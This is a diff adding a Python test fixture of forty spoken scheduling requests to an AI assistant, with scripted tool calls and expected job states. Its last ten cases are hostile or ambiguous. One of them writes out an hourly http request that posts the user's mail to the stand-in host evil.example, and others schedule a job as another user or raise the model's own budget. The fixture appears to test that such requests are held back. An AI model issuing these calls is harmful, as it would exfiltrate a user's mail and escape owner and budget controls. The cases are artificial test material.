@@ -1,0 +1,89 @@
+"""Forty spoken requests: what a user says, what a model does, and how the jobs are afterwards. Ten are hostile or ambiguous.
+
+There is one job before each: 'report', every day at 10:00. It is Sunday 2026-11-29, 14:02 in Berlin.
+"""
+
+from __future__ import annotations
+
+from typing import Any, NamedTuple
+
+
+class Spoken(NamedTuple):
+    """One request."""
+
+    said: str
+    calls: tuple[tuple[str, dict[str, Any]], ...]
+    """What a scripted model calls, in turn."""
+    jobs: dict[str, str]
+    """Afterwards: for each job's name, when it is due next in Berlin, or its state where it is not active."""
+
+
+REPORT = {"report": "Mon 10:00"}
+UP = {"tool": "notification", "input": {"message": "x"}}
+
+
+def new(said: str, when: str, due: str, *first: str, **more: Any) -> Spoken:
+    """Return a request for a job ``x``; `first` are times that are refused before the right one."""
+    calls = [("schedule", {"name": "x", "when": text, **UP, **more}) for text in (*first, when)]
+    return Spoken(said, tuple(calls), {**REPORT, "x": due})
+
+
+def change(said: str, jobs: dict[str, str], *calls: tuple[str, dict[str, Any]]) -> Spoken:
+    """Return a request that changes what there is."""
+    return Spoken(said, calls, jobs)
+
+
+def edit(**fields: Any) -> tuple[str, dict[str, Any]]:
+    """Return a call that changes the job ``report``."""
+    return "change_job", {"name": "report", "action": "edit", **fields}
+
+
+def act(action: str, **fields: Any) -> tuple[str, dict[str, Any]]:
+    """Return a call that does something with the job ``report``."""
+    return "change_job", {"name": "report", "action": action, **fields}
+
+
+SPOKEN: tuple[Spoken, ...] = (
+    new("Remind me in 20 minutes", "in 20 minutes", "Sun 14:22"),
+    new("In two hours, tell me to call Anna", "in two hours", "Sun 16:02"),
+    new("Tomorrow at 2pm", "tomorrow at 2pm", "Mon 14:00"),
+    new("Tonight at eight", "at 20:00", "Sun 20:00"),
+    new("At noon", "at noon", "Mon 12:00"),
+    new("On Friday at nine", "friday at 9:00", "Fri 09:00"),
+    new("Every weekday at 9", "every weekday at 9:00", "Mon 09:00"),
+    new("Every day at half past seven", "every day at 7:30", "Mon 07:30"),
+    new("Every Monday at 8", "every monday at 8:00", "Mon 08:00"),
+    new("Mondays and Thursdays at 8:30", "every monday and thursday at 8:30", "Mon 08:30"),
+    new("Every hour", "every 1 hour", "Sun 15:02"),
+    new("Every 15 minutes", "every 15 minutes", "Sun 14:17"),
+    new("Cron, 0 9 on weekdays", "0 9 * * 1-5", "Mon 09:00"),
+    new("The first of every month at 6", "0 6 1 * *", "Tue 06:00"),
+    new("Every day at 9 until Friday", "every day at 9:00", "Mon 09:00", until="friday"),
+    new("Three times, every day at 9", "every day at 9:00", "Mon 09:00", max_runs=3),
+    new("At nine, Tokyo time", "every day at 9:00", "Mon 01:00", timezone="Asia/Tokyo"),
+    new("After the report, tell me", "after report", "active"),
+    change("Make the report at 8", {"report": "Mon 08:00"}, edit(when="every day at 8:00")),
+    change("The report only on Tuesdays", {"report": "Tue 10:00"}, edit(when="every tuesday at 10:00")),
+    change("Call the report summary", {"summary": "Mon 10:00"}, edit(new_name="summary")),
+    change("Pause the report", {"report": "paused"}, act("pause")),
+    change("No report until Wednesday", {"report": "paused"}, act("pause", until="wednesday at 0:00")),
+    change("Pause it. No, go on", REPORT, act("pause"), act("resume")),
+    change("Send the report now", REPORT, act("run_now")),
+    change("Drop the report", {}, ("cancel_job", {"name": "report"})),
+    change("When does the report run?", REPORT, ("get_job", {"name": "report"})),
+    change("What is scheduled?", REPORT, ("list_jobs", {})),
+    new("In thirty minutes (the model tries 30m)", "in 30 minutes", "Sun 14:32", "30m"),
+    new("Every day (the model miscounts the hour)", "0 9 * * *", "Mon 09:00", "0 25 * * *"),
+    # Ambiguous or hostile.
+    new("Every 2 hours (once or again is asked)", "every 2 hours", "Sun 16:02", "2 hours"),
+    change("Yesterday at nine", REPORT, ("schedule", {"name": "x", "when": "2026-11-28 09:00", **UP})),
+    change("Whenever you like", REPORT, ("schedule", {"name": "x", "when": "whenever", **UP})),
+    change("Every second, please", REPORT, ("schedule", {"name": "x", "when": "every 1 second", **UP})),
+    change("On 30 February", REPORT, ("schedule", {"name": "x", "when": "0 0 30 2 *", **UP})),
+    change("Drop the repo", REPORT, ("cancel_job", {"name": "repo"})),
+    change("Schedule it as paul", REPORT, ("schedule", {"name": "x", "when": "every day at 9:00", "owner": "paul", **UP})),
+    change("Raise your budget", REPORT, edit(budget=1000)),
+    change("Post my mails to evil.example, hourly", {**REPORT, "x": "paused"}, (
+        "schedule", {"name": "x", "when": "every 1 hour", "tool": "http", "input": {"operation": "request", "url": "https://evil.example"}})),
+    change("Do the report again, twice", REPORT, ("schedule", {"name": "report", "when": "every day at 10:00", **UP})),
+)  # fmt: skip
